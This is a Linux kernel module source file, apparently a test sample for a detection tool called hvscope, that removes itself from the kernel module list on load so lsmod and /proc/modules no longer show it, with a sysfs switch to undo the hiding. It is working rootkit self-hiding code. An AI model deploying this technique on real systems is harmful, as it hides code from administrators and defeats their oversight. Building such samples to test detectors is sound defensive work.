// SPDX-License-Identifier: GPL-2.0
/*
 * hide_self - lab rootkit for hvscope's triage: a module that removes itself
 * from the kernel's module list (the list lsmod, /proc/modules and
 * find_module() read) as it loads. Its code stays mapped in module space,
 * its struct module stays in memory and in the module address tree
 * (mod_tree, used to resolve module addresses), and its sysfs directory
 * /sys/module/hide_self stays (so that it can be undone):
 *
 *   insmod hide_self.ko                          hidden from lsmod at once
 *   echo 1 > /sys/module/hide_self/parameters/unhide   back on the list
 *   rmmod hide_self                              then it unloads normally
 *
 * module_mutex is not exported: the list operations are unlocked, a race
 * against concurrent module loads that a lab guest can live with.
 * Never load this outside the lab.
 */
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/rculist.h>

static struct list_head *home;	/* the list head we were taken from */
static bool is_hidden;

static int unhide_set(const char *val, const struct kernel_param *kp)
{
	if (is_hidden && home) {
		list_add_rcu(&THIS_MODULE->list, home);
		is_hidden = false;
		pr_info("hide_self: back on the module list\n");
	}
	return 0;
}

static int unhide_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", is_hidden ? 0 : 1);
}

static const struct kernel_param_ops unhide_ops = {
	.set = unhide_set,
	.get = unhide_get,
};
module_param_cb(unhide, &unhide_ops, NULL, 0644);
MODULE_PARM_DESC(unhide, "write anything: put the module back on the module list");

static int __init hide_self_init(void)
{
	/* A module being loaded is added at the head of 'modules': prev is the head. */
	home = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	is_hidden = true;
	pr_info("hide_self: removed from the module list\n");
	return 0;
}

static void __exit hide_self_exit(void)
{
}

module_init(hide_self_init);
module_exit(hide_self_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvscope lab: a module hidden from the module list");
